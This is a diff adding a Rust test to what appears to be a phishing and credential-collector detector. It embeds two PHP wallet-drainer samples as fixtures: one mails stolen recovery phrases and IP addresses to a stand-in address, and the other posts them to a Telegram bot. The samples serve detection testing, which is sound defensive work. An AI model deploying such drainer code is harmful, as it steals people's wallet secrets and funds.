@@ -830,3 +830,21 @@ fn a_step_page_asking_for_a_card_and_its_pin_is_phishing() {
     let apply = "<form method=post><input name=\"ssn\"><input name=\"dob\"><input name=\"first_name\"></form>";
     assert!(asks_card_and_bank_secret(apply.as_bytes()).is_none());
 }
+
+#[test]
+fn a_wallet_drainer_sending_the_secret_words_is_a_collector() {
+    // fresh136's drainers: the wallet's name and its recovery phrase mailed, or sent to a chat
+    // bot from the page's JSON post.
+    let mailed = "<?php\n$phrase = $_POST['phrase'];\n$wallet = $_POST['wallet'];\n$ip = $_SERVER['REMOTE_ADDR'];\n\
+                  $msg = \"Wallet: $wallet\\nPhrase: $phrase\\nIP: $ip\\n\";\nmail('drain@example.com', \"New import - $ip\", $msg);\n\
+                  header('Location: https://metamask.io');";
+    assert_eq!(found(mailed), [Why::CredentialCollector]);
+    let bot = "<?php require 'config.php';\nif (isset($_POST['mnemonic'])) {\n\
+               $text = \"Seed: \" . $_POST['mnemonic'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n\
+               file_get_contents('https://api.telegram.org/bot' . $token . '/sendMessage?chat_id=' . $chat . '&text=' . urlencode($text));\n\
+               echo json_encode(['ok' => true]); }";
+    assert_eq!(found(bot), [Why::CredentialCollector]);
+    // A shop's order mail naming the customer's wallet address for a refund: no secret in it.
+    let refund = mailed.replace("Phrase: $phrase", "Order: $phrase");
+    assert!(found(&refund).is_empty());
+}
